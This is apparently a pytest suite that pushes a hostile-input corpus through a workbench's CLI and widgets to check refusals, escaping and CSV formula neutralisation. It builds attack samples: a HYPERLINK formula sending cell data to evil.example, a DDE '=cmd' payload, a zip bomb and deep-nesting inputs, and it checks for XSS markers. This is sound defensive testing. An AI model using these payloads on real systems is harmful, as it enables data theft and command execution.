"""The hostile-input corpus (tests/hostile/manifest.toml) through the CLI and the widgets.

For every refused input: the CLI exits 2 with one ``error: `` line on stderr and
no traceback; the widget shows the error (its catalog sentence) and no
traceback; nothing is written (same event count, ``verify`` passes, ``data/``
unchanged). For every accepted-but-dangerous input: it is stored exactly, shown
escaped, and every CSV export neutralises spreadsheet formulas.

Big and binary inputs are generated here (``GENERATORS``), once per session.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import random
import re
import sys
import tomllib
import zipfile
from functools import cache
from pathlib import Path
from types import SimpleNamespace

import ipywidgets as w
import pytest

import workbench
from workbench.cli import run_cli
from workbench.errors import WorkbenchError
from workbench.i18n import catalog

from .consent_support import make_scope, new_project
from .gates import publish

HERE = Path(__file__).resolve().parent / "hostile"
CASES = tomllib.loads((HERE / "manifest.toml").read_text(encoding="utf-8"))["case"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TARGETS = ("data", "consent", "statement", "code", "datawork", "charter")
MB = 1024 * 1024


def cases(target: str):
    return [pytest.param(c, id=c["id"]) for c in CASES if c["target"] == target]


# -- generated inputs ------------------------------------------------------------------------------
def _png() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    pixels = zlib.compress(b"\x00\xff\x00\x00" * 4)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))


def _random_binary() -> bytes:
    data = random.Random(10).randbytes(8192)
    return b"\x00\x01" + data  # no magic number, NUL bytes throughout


def _huge_cell() -> bytes:
    return b"contributor_id,text,label\nc-1," + b"x" * (5 * MB) + b",urgent\nc-2,short,routine\n"


def _huge_header_cell() -> bytes:
    return b'contributor_id,"' + b"h" * (5 * MB) + b'",label\nc-1,a,urgent\n'


def _million_columns() -> bytes:
    header = "contributor_id," + ",".join(f"c{i}" for i in range(1, 1_000_000))
    return (header + "\n" + "c-1," + "0," * 999_998 + "0\n").encode()


def _xlsx(rows, text_cells=()) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for ref, value in text_cells:  # a text cell that starts with "=" (not a formula)
        sheet[ref] = value
        sheet[ref].data_type = "s"
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _xlsx_formula() -> bytes:
    return _xlsx([["contributor_id", "text", "label"],
                  ["c-1", '=HYPERLINK("http://evil.example/?d="&A1,"click")', "urgent"],
                  ["c-2", "=1+1", "routine"], ["c-3", "plain words", "urgent"]],
                 text_cells=[("B4", "=SUM(1,1) typed as text"), ("A5", "c-4"), ("C5", "routine"),
                             ("B5", "@SUM(A1)")])


def _zip_bomb() -> bytes:
    """A real workbook whose sheet unpacks to 256 MB (padding a comment): ~250 KB packed."""
    good = zipfile.ZipFile(io.BytesIO(_xlsx([["contributor_id", "text"], ["c-1", "a"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:
        for info in good.infolist():
            data = good.read(info.filename)
            if info.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(info.filename, data)
                continue
            head, tail = data.split(b"</sheetData>")
            with bomb.open(info.filename, "w", force_zip64=True) as member:
                member.write(head + b"</sheetData><!--")
                block = b" " * MB
                for _ in range(256):
                    member.write(block)
                member.write(b"-->" + tail)
    return out.getvalue()


def _deep_arrays() -> bytes:
    return b"[" * 10_000 + b"]" * 10_000 + b"\n"


def _deep_objects() -> bytes:
    return b'{"a":' * 10_000 + b"1" + b"}" * 10_000 + b"\n"


def _consent_huge_cell() -> bytes:
    return ("contributor_id,date,choices,method,witness\nc-1,2026-01-10,train,paper,"
            + "w" * 200_000 + "\n").encode()


def _consent_xlsx_formula() -> bytes:
    return _xlsx([["contributor_id", "date", "choices", "method", "witness"],
                  ['=HYPERLINK("http://evil.example","c-1")', "2026-01-10", "train", "paper", None]])


def _nul_after_64k() -> bytes:
    """A clean CSV whose NUL byte comes after the first 64 KB (line 3,002), where the old check stopped looking."""
    return b"contributor_id,text,label\n" + b"c-1,water is late again today,urgent\n" * 3000 + b"c-2,x\x00y,routine\n"


def _consent_nul_after_64k() -> bytes:
    return (b"contributor_id,date,choices,method,witness\n" + b"c-1,2026-01-10,train,paper,f-ana\n" * 3000
            + b"c-2,2026-01-10,train,paper,f-\x00ana\n")


def _consent_million_rows() -> bytes:
    """1,000,000 rows (6 MB): the old importer had no limit and aborted the interpreter ("Fatal Python error")."""
    return b"contributor_id,date,choices\n" + b"c,x,y\n" * 1_000_000


def _far_cell(header) -> bytes:
    """A 5 KB workbook with one cell at XFD1048576: pandas would build 16,384 columns by a million rows."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    sheet.append(["c-1", "2026-01-10", "train", "paper", "f-ana"][:len(header)])
    sheet["XFD1048576"] = "x"
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


GENERATORS = {
    "nul_after_64k": _nul_after_64k, "consent_nul_after_64k": _consent_nul_after_64k,
    "consent_million_rows": _consent_million_rows,
    "xlsx_far_cell": lambda: _far_cell(["contributor_id", "text"]),
    "consent_xlsx_far_cell": lambda: _far_cell(["contributor_id", "date", "choices", "method", "witness"]),
    "png": _png, "random_binary": _random_binary, "huge_cell": _huge_cell, "huge_header_cell": _huge_header_cell,
    "million_columns": _million_columns, "xlsx_formula": _xlsx_formula, "zip_bomb": _zip_bomb,
    "deep_arrays": _deep_arrays, "deep_objects": _deep_objects, "consent_huge_cell": _consent_huge_cell,
    "consent_xlsx_formula": _consent_xlsx_formula,
    "lone_surrogate": lambda: "half a pair: \ud800here",
    "huge_statement": lambda: "a" * (5 * MB),
    "code_20000": lambda: "rio-coral-" + "4" * 20_000,
    "text_20000": lambda: "x" * 20_000,
}


@cache
def _generated(name: str):
    return GENERATORS[name]()


def payload(case) -> bytes | str:
    """The case's input: bytes for files, text for statements and codes."""
    if "generate" in case:
        data = _generated(case["generate"])
    elif "file" in case:
        data = (HERE / case["file"]).read_bytes()
    else:
        data = case["text"]
    if case["target"] in ("statement", "code", "charter") and isinstance(data, bytes):
        data = data.decode("utf-8")
    return data


def file_name(case) -> str:
    return case.get("name") or Path(case.get("file") or case["generate"]).name


def write_input(case, folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / file_name(case)
    path.write_bytes(payload(case))
    return path


# -- what must hold ---------------------------------------------------------------------------------
def state(project) -> tuple[int, list[str]]:
    """The event count and every file under data/ (hidden partial files too)."""
    data = Path(project.data_dir)
    return project.store.count(), sorted(str(p.relative_to(data)) for p in data.rglob("*"))


def assert_nothing_written(project, before) -> None:
    assert state(project) == before, "a refused input wrote something"
    result = project.store.verify()
    assert result.ok, result.sentence


def assert_cli_refused(case, code: int, out: str, err: str) -> None:
    assert code == 2, f"exit {code}\nstdout: {out}\nstderr: {err}"
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), f"stderr is not one 'error: ' line: {err!r}"
    assert "Traceback" not in out + err
    assert case["message"] in err or case["message"] in out, f"{case['message']!r} not in {out + err!r}"


def html_of(widget) -> str:
    """Every HTML a view renders (HTML widgets' values), its whole tree."""
    out, stack = [], [widget]
    while stack:
        item = stack.pop()
        if isinstance(item, w.HTML | w.HTMLMath):
            out.append(item.value)
        stack.extend(getattr(item, "children", ()) or ())
    return "\n".join(out)


def literal_parts(key: str) -> list[str]:
    """The catalog sentence's words between placeholders, HTML-escaped as a view shows them."""
    text = catalog("en")[key]
    return [html.escape(part.strip(" .;:,"), quote=True) for part in re.split(r"\{[^}]*\}", text)
            if len(part.strip(" .;:,")) >= 4]


def assert_widget_refused(case, shown: str) -> None:
    assert "wb-error" in shown, f"no error shown: {shown[:500]}"
    assert "Traceback" not in shown and "Error:" not in shown.replace("wb-error", "")
    for part in literal_parts(case["key"]):
        assert part in shown, f"{part!r} of {case['key']} not shown in {shown[:800]}"


def assert_echo_is_clean(shown: str, typed: str) -> None:
    """What is said back about typed text holds none of its refused characters and at most a snippet of it."""
    from workbench.text import ECHO_CHARS, refused_char

    bad = [f"U+{ord(ch):04X}" for ch in shown if refused_char(ch)]
    assert not bad, f"the sentence echoes invisible or control characters {bad}: {shown[:300]!r}"
    if len(typed) > 4 * ECHO_CHARS:
        run = max((len(m) for m in re.findall(r"(.)\1*", shown)), default=0)
        assert len(shown) < 1500 and run <= ECHO_CHARS, f"{len(typed)} typed characters were echoed back"


def risky(cell: str) -> bool:
    """A CSV cell a spreadsheet would run as a formula: starts with = + - @ tab or CR and is not a number."""
    if not cell.startswith(FORMULA_START):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def assert_csv_neutralised(path: Path) -> list[list[str]]:
    limit = csv.field_size_limit(sys.maxsize)  # the 5 MB cell
    try:
        with open(path, encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
    finally:
        csv.field_size_limit(limit)
    bad = [cell for row in rows for cell in row if risky(cell)]
    assert not bad, f"{path.name} has formulas a spreadsheet would run: {bad[:5]}"
    return rows


def assert_shown_as_text(shown: str, raw: str) -> None:
    assert html.escape(raw, quote=True) in shown or html.escape(raw, quote=False) in shown, \
        f"{raw[:80]!r} is not shown (escaped) in {shown[:500]}"
    if any(ch in raw for ch in "<>"):
        assert raw not in shown, f"{raw[:80]!r} reached the page as markup"


def test_the_corpus_is_complete():
    assert len(CASES) >= 40
    ids = [c["id"] for c in CASES]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    for c in CASES:
        assert c["target"] in TARGETS, c
        assert c["expect"] in ("refused", "accepted"), c
        assert sum(k in c for k in ("file", "generate", "text", "fields")) == 1, c
        if "file" in c:
            assert (HERE / c["file"]).is_file(), c
        if "generate" in c:
            assert c["generate"] in GENERATORS, c
        if c["target"] == "charter":
            assert c["field"] in CHARTER_FIELDS or c["field"].startswith("item:"), c
        if c["expect"] == "refused":
            assert c["key"] in catalog("en"), c
            assert c["message"], c
    committed = {str(p.relative_to(HERE)) for p in HERE.rglob("*") if p.is_file()} - {"manifest.toml",
                                                                                         ".gitattributes"}
    used = {c["file"] for c in CASES if "file" in c}
    assert committed <= used, f"files in tests/hostile/ that no case uses: {sorted(committed - used)}"
    big = [p for p in HERE.rglob("*") if p.is_file() and p.stat().st_size > 64 * 1024]
    assert not big, f"generate big inputs at test time instead of committing them: {big}"


# -- datasets: `workbench data add` and the curation upload ------------------------------------------
@pytest.fixture(scope="module")
def data_project(tmp_path_factory):
    p = new_project(tmp_path_factory.mktemp("hostile-data"))
    publish(p.store, make_scope())
    yield p
    p.close()


@pytest.fixture(scope="module")
def curation_view(data_project):
    from workbench.ui.curation.view import CurationView

    return CurationView(data_project, "facilitator", "en", charts=False)


def assert_data_accepted(case, project, data: bytes, tmp_path: Path):
    from workbench.curation import importer
    from workbench.curation.snapshot import export_csv

    ds = importer.current(project.store)
    assert ds is not None and ds.original_name == file_name(case)
    assert ds.sha256 == importer.Preview(data, "x", "csv", None).sha256
    assert ds.path(project).read_bytes() == data, "the raw file is not stored exactly"
    if "rows" in case:
        assert ds.rows == case["rows"]
    frame = importer.load_frame(project, ds)
    assert not any(str(c).startswith("\ufeff") for c in frame.columns), "a BOM leaked into a column name"
    rows = assert_csv_neutralised(export_csv(frame, tmp_path / "rows.csv"))
    assert len(rows) == len(frame) + 1
    assert project.store.verify().ok


@pytest.mark.parametrize("case", cases("data"))
def test_data_file_through_the_cli(case, data_project, tmp_path):
    path = write_input(case, tmp_path / "in")
    before = state(data_project)
    code, out, err = run_cli(["data", "add", str(data_project.root), str(path), "--contributor-col",
                              "contributor_id"])
    if case["expect"] == "refused":
        assert_cli_refused(case, code, out, err)
        assert_nothing_written(data_project, before)
    else:
        assert (code, err) == (0, ""), f"exit {code}: {err}"
        assert out.startswith(f"Added {file_name(case)}: ") and "Traceback" not in out
        assert data_project.store.count() == before[0] + 2  # data.received + dataset.mapped, one transaction
        assert_data_accepted(case, data_project, path.read_bytes(), tmp_path)


@pytest.mark.parametrize("case", cases("data"))
def test_data_file_through_the_curation_upload(case, data_project, curation_view, tmp_path):
    view = curation_view
    data, name = payload(case), file_name(case)
    view.status.value = ""
    before = state(data_project)
    view.upload.value = ({"name": name, "type": "", "size": len(data),
                          "last_modified": dt.datetime(2026, 5, 1, tzinfo=dt.UTC), "content": memoryview(data)},)
    if case["expect"] == "refused":
        assert_widget_refused(case, html_of(view.widget))
        assert view.contributor_col.options == ()
        view.add_button.click()  # nothing to add: "choose a file first"
        assert "wb-error" in view.status.value and "Traceback" not in html_of(view.widget)
        assert_nothing_written(data_project, before)
    else:
        view.add_button.click()
        shown = html_of(view.widget)
        assert "wb-ok" in view.status.value and "Traceback" not in shown, view.status.value
        assert_data_accepted(case, data_project, data, tmp_path)
        view.render_profile()
        view.render_pii()
        shown = html_of(view.widget)
        assert_shown_as_text(shown, name)
        assert "<script>" not in shown and "<img src=x" not in shown and "<h1>pwned" not in shown
    view.upload.value = ()


# -- paper consent records: `workbench consent import` and the consent app's upload ---------------------
@pytest.fixture(scope="module")
def consent_project(tmp_path_factory):
    p = new_project(tmp_path_factory.mktemp("hostile-consent"))
    publish(p.store, make_scope())
    yield p
    p.close()


def assert_consent_accepted(project, data: bytes, before: int) -> None:
    from workbench.consent.ledger import ConsentLedger

    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    events = project.store.events(prefix="consent.")
    assert project.store.count() == before + len(rows) and len(events) == len(rows)
    ledger = ConsentLedger.load(project.store)
    assert [r.witness for r in ledger.receipts] == [r["witness"] for r in rows], "not stored as written"
    assert project.store.verify().ok


@pytest.mark.parametrize("case", cases("consent"))
def test_consent_records_through_the_cli(case, consent_project, tmp_path):
    path = write_input(case, tmp_path / "in")
    if case["expect"] == "accepted":
        project = new_project(tmp_path)
        publish(project.store, make_scope())
        before = project.store.count()
        code, out, err = run_cli(["consent", "import", str(project.root), str(path)])
        assert (code, err) == (0, ""), err
        assert "Imported 1 records" in out and "Traceback" not in out
        assert_consent_accepted(project, path.read_bytes(), before)
        project.close()
        return
    before = state(consent_project)
    code, out, err = run_cli(["consent", "import", str(consent_project.root), str(path)])
    assert_cli_refused(case, code, out, err)
    assert_nothing_written(consent_project, before)
    # --good-rows-only writes only good rows: these files have none
    code, out, err = run_cli(["consent", "import", str(consent_project.root), str(path), "--good-rows-only"])
    assert code == 2 and "Traceback" not in out + err and len(err.splitlines()) == 1
    assert_nothing_written(consent_project, before)


@pytest.mark.parametrize("case", cases("consent"))
def test_consent_records_through_the_consent_app(case, consent_project, tmp_path):
    from workbench.ui.consent.facilitator import FacilitatorView

    data = payload(case)
    if case["expect"] == "accepted":
        project = new_project(tmp_path)
        publish(project.store, make_scope())
        view = FacilitatorView(project, "en", chart=False)
        before = project.store.count()
        view.upload.value = ({"name": file_name(case), "type": "", "size": len(data),
                              "last_modified": dt.datetime(2026, 5, 1, tzinfo=dt.UTC), "content": memoryview(data)},)
        view.import_all.click()
        shown = html_of(view.widget)
        assert "wb-ok" in view.message.value and "Traceback" not in shown, view.message.value
        assert "<script>" not in shown
        assert_consent_accepted(project, data, before)
        project.close()
        return
    view = FacilitatorView(consent_project, "en", chart=False)
    before = state(consent_project)
    view.upload.value = ({"name": file_name(case), "type": "", "size": len(data),
                          "last_modified": dt.datetime(2026, 5, 1, tzinfo=dt.UTC), "content": memoryview(data)},)
    report = view.import_report.value  # the file's sentence, or each bad row's
    view.import_all.click()  # a file with bad rows (or no good ones) imports nothing
    after_all = view.message.value
    view.import_good.click()
    shown = html_of(view.widget)
    assert "wb-error" in after_all and "wb-error" in view.message.value
    assert_widget_refused(case, "\n".join((report, after_all, shown)))
    assert "<script>" not in shown
    assert_nothing_written(consent_project, before)


# -- statements in the purpose app --------------------------------------------------------------------------
@pytest.mark.parametrize("case", cases("statement"))
def test_statement_in_the_participant_app(case, tmp_path):
    from workbench.purpose.deliberation import Deliberation
    from workbench.purpose.export import export_polis
    from workbench.ui.purpose.participant import ParticipantView

    text = payload(case)
    project = new_project(tmp_path)
    try:
        author = ParticipantView(project, "en")
        author.new_button.click()
        assert author.code
        before = state(project)
        author.text.value = text
        author.submit.click()
        if case["expect"] == "refused":
            assert_widget_refused(case, author.write_status.value)
            assert_echo_is_clean(author.write_status.value, text)
            assert author.text.value == text, "the typed text must stay for the participant to fix"
            assert "Traceback" not in html_of(author.widget)
            assert_nothing_written(project, before)
            return
        assert "wb-ok" in author.write_status.value, author.write_status.value
        expected = case.get("stored", text)
        delib = Deliberation.load(project.store)
        (statement,) = delib.statements.values()
        assert statement.text == expected, "the statement is not stored exactly"
        assert project.store.verify().ok
        reader = ParticipantView(project, "en")
        reader.new_button.click()
        assert f'data-statement="{statement.id}"' in reader.card.value
        assert_shown_as_text(reader.card.value, expected)
        assert "Traceback" not in html_of(reader.widget)
        rows = assert_csv_neutralised(export_polis(delib, tmp_path / "polis")[0])
        body = rows[1][rows[0].index("comment-body")]
        assert body == ("'" + expected if expected.startswith(FORMULA_START) else expected)
    finally:
        project.close()


# -- participant codes ---------------------------------------------------------------------------------------
@pytest.fixture
def code_project(tmp_path_factory):
    """A project per case: each case makes three wrong tries, and the code limiter counts them per project."""
    from workbench.purpose import deliberation as dl

    p = new_project(tmp_path_factory.mktemp("hostile-codes"))
    dl.join(p.store, "en")
    yield p
    p.close()


@pytest.mark.parametrize("case", cases("code"))
def test_participant_code(case, code_project):
    from workbench.purpose import deliberation as dl
    from workbench.ui.purpose.participant import ParticipantView

    text = payload(case)
    before = state(code_project)
    with pytest.raises(WorkbenchError) as refused:
        dl.resume(code_project.store, text)
    assert case["message"] in refused.value.sentence
    assert_echo_is_clean(refused.value.sentence, text)
    from_link = ParticipantView(code_project, "en", code=text)  # ?code= in the join link
    typed = ParticipantView(code_project, "en")
    typed.code_input.value = text
    typed.resume_button.click()
    for view in (from_link, typed):
        assert view.code is None
        assert_widget_refused(case, view.join_status.value)
        assert_echo_is_clean(view.join_status.value, text)
        assert "<script>" not in html_of(view.widget)
    assert_nothing_written(code_project, before)


# -- the data-work ledger ----------------------------------------------------------------------------------------
WORK = {"task": "labelling", "worker": "w-07", "hours": "2", "items": "", "pay": "40", "currency": "BRL",
        "date": "2026-03-10", "paid_on": "", "note": "labelled 200 messages"}


@pytest.fixture(scope="module")
def work_project(tmp_path_factory):
    p = new_project(tmp_path_factory.mktemp("hostile-work"))
    yield p
    p.close()


@pytest.fixture(scope="module")
def work_view(work_project):
    from workbench.ui.curation.datawork import DataWorkView

    return DataWorkView(work_project, "facilitator", "en", charts=False)


def _day(text: str):
    """What a DatePicker can hold: a date, or None when cleared; None for text no picker can send."""
    try:
        return dt.date.fromisoformat(text) if text else None
    except ValueError:
        return ...


@pytest.mark.parametrize("case", cases("datawork"))
def test_data_work_entry(case, work_project, work_view, tmp_path):
    from workbench.curation import datawork

    f = {**WORK, **case["fields"]}
    if "generate_note" in case:
        f["note"] = _generated(case["generate_note"])
    before = state(work_project)
    if case["expect"] == "refused":
        with pytest.raises(WorkbenchError) as refused:
            datawork.record(work_project.store, f["task"], f["worker"], hours=f["hours"] or None,
                            items=f["items"] or None, pay=f["pay"], currency=f["currency"], on=f["date"],
                            paid_on=f["paid_on"] or None, note=f["note"])
        assert case["message"] in refused.value.sentence
        assert refused.value.key == case["key"]
        assert_nothing_written(work_project, before)
    day, paid = _day(f["date"]), _day(f["paid_on"])
    if day is ... or paid is ...:
        return  # a DatePicker cannot hold this text; the domain call above is what refuses it
    view = work_view
    view.status.value = ""
    view.work_task.value = f["task"]
    for ctl, key in ((view.work_worker, "worker"), (view.work_hours, "hours"), (view.work_items, "items"),
                     (view.work_pay, "pay"), (view.work_currency, "currency"), (view.work_note, "note")):
        ctl.value = f[key]
    view.work_date.value, view.work_paid_on.value = day, paid
    view.work_add.click()
    shown = html_of(view.widget)
    if case["expect"] == "refused":
        assert_widget_refused(case, view.status.value)
        assert "Traceback" not in shown and "<script>" not in shown
        assert_nothing_written(work_project, before)
        return
    assert "wb-ok" in view.status.value, view.status.value
    (entry,) = [e for e in datawork.entries_of(work_project.store.events(prefix="datawork."))
                if e["note"] == f["note"]]
    assert entry["worker"] == f["worker"]
    assert "<img src=x" not in shown and "Traceback" not in shown
    rows = assert_csv_neutralised(datawork.export_csv(work_project, tmp_path / "ledger.csv"))
    note = [r[rows[0].index("note")] for r in rows[1:] if r[rows[0].index("id")] == entry["id"]]
    assert note == ["'" + f["note"] if f["note"].startswith(FORMULA_START) else f["note"]]
    assert work_project.store.verify().ok


# -- the evaluation's metrics CSV -----------------------------------------------------------------------------
def test_metrics_csv_neutralises_group_names_from_the_data(tmp_path):
    import pandas as pd

    from workbench.evaluation import protocol

    table = pd.DataFrame({"attribute": ["hood", "hood", "hood"], "group": ["=cmd|' /C calc'!A0", "@SUM(1)", "A"],
                          "metric": ["accuracy"] * 3, "label": ["", "+x", "-2+3"], "value": [0.5, -0.25, 1.0]})
    result = SimpleNamespace(status="ok", key="cand", report=SimpleNamespace(table=table), model={"fitted": True},
                             files={})
    protocol._record(None, "run1", result, None, (), tmp_path, "facilitator")
    rows = assert_csv_neutralised(tmp_path / "cand-metrics.csv")
    assert rows[1][1] == "'=cmd|' /C calc'!A0" and rows[3][3] == "'-2+3" and rows[2][4] == "-0.25"


def test_a_missing_records_file_is_one_sentence(consent_project, tmp_path):
    code, out, err = run_cli(["consent", "import", str(consent_project.root), str(tmp_path / "nope.csv")])
    assert code == 2 and err.startswith("error: There is no file at ") and len(err.splitlines()) == 1


def test_the_hostile_project_folders_are_whole(data_project, consent_project):
    for p in (data_project, consent_project):
        with workbench.open(p.root) as again:
            assert again.store.verify().ok
        assert not list(Path(p.data_dir).rglob("*.partial"))


# -- the facilitators' charter desk ------------------------------------------------------------------------------
CHARTER_FIELDS = ("title", "problem", "community", "groups", "mitigation", "crit_label")


def _type_into_the_desk(view, field: str, text: str) -> None:
    """Type ``text`` into the desk's ``field`` and press the button that saves it."""
    if field in ("title", "problem", "community"):
        view.fields[field].value = text
        view.save.click()
    elif field == "groups":
        view.groups.value = text
        view.save.click()
    elif field.startswith("item:"):
        view.list_choice.value = field.split(":", 1)[1]
        view.item_text.value = text
        view.item_add.click()
    elif field == "mitigation":
        view.harm_choice.value = 0
        view.mitigation.value = text
        view.mitigation_set.click()
    elif field == "crit_label":
        view.crit_metric.value, view.crit_scope.value = "recall", "overall"
        view.crit_label.value = text
        view.crit_add.click()
    else:  # pragma: no cover - the corpus check names the fields
        raise AssertionError(field)


def _stored(charter, field: str):
    if field in ("title", "problem", "community"):
        return getattr(charter, field)
    if field.startswith("item:"):
        return getattr(charter, field.split(":", 1)[1])[-1].text
    if field == "mitigation":
        return charter.harms[0].mitigation
    raise AssertionError(field)


def assert_markdown_is_inert(md: str) -> None:
    """Rendered as a Markdown viewer would (CommonMark with raw HTML on, GFM tables): no link, image or tag."""
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
    tags = re.findall(r"<(a|img|script|svg|iframe|object)\b", rendered, re.I)
    assert not tags, f"charter.md renders {tags}: {rendered[:1500]}"
    for scheme in ("javascript:", "vbscript:", "data:"):
        assert scheme not in md.lower(), f"charter.md holds a live {scheme} scheme"


@pytest.mark.parametrize("case", cases("charter"))
def test_charter_field_on_the_facilitators_desk(case, tmp_path):
    from workbench.purpose import charter as ch
    from workbench.purpose.render import write_charter
    from workbench.ui.purpose.facilitator import FacilitatorView

    text, field = payload(case), case["field"]
    project = new_project(tmp_path)
    try:
        ch.save_draft(project.store, ch.Charter(title="Triage", harms=[ch.Item("A message is missed")]))
        view = FacilitatorView(project, "en", charts=False)
        before = state(project)
        _type_into_the_desk(view, field, text)
        shown = html_of(view.widget)
        assert "Traceback" not in shown
        if case["expect"] == "refused":
            assert_widget_refused(case, view.status.value)
            assert_echo_is_clean(view.status.value, text)
            assert_nothing_written(project, before)
            with pytest.raises(WorkbenchError) as refused:  # the domain refuses it too, whoever calls it
                draft = ch.CharterHistory.load(project.store).draft()[1]
                if field in ("title", "problem", "community"):
                    setattr(draft, field, text)
                elif field == "groups":
                    draft.groups = [text]
                elif field == "mitigation":
                    draft.harms[0].mitigation = text
                elif field == "crit_label":
                    draft.criteria.append(ch.Criterion("recall", 0.8, label=text))
                else:
                    getattr(draft, field.split(":", 1)[1]).append(ch.Item(text))
                ch.save_draft(project.store, draft)
            assert case["message"] in refused.value.sentence and refused.value.key == case["key"]
            assert_nothing_written(project, before)
            return
        assert "wb-ok" in view.status.value, view.status.value
        charter = ch.CharterHistory.load(project.store).latest.charter
        assert _stored(charter, field) == " ".join(text.split()), "not stored as typed"
        assert "<script" not in shown and "<img src=x" not in shown and 'href="javascript' not in shown
        _version, (md_path, html_path, _js) = write_charter(project)
        assert_markdown_is_inert(md_path.read_text(encoding="utf-8"))
        page = html_path.read_text(encoding="utf-8")
        assert not re.findall(r"<(a|img|script|svg|iframe|object)\b", page, re.I), page[:1500]
        assert html.escape(" ".join(text.split()), quote=True) in page, "not shown (escaped) in charter.html"
        assert project.store.verify().ok
    finally:
        project.close()
